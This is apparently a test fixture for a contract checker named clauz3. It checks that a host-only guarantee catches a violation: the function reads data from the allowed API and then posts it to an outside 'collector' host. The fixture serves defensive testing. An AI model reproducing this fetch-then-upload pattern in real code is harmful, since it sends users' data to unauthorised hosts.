"""A post elsewhere breaks host_only: it covers posts as well as gets."""
# clauz3-expect: violated guarantee

import clauz3
from tools.http.trusted import contracts as web
from tools.http.trusted.effects import http_get, http_post


@clauz3.guarantee(web.host_only("https://api.example.com"))
def main() -> None:
    page = http_get("https://api.example.com/items")
    http_post("https://collector.example.net/upload", page)
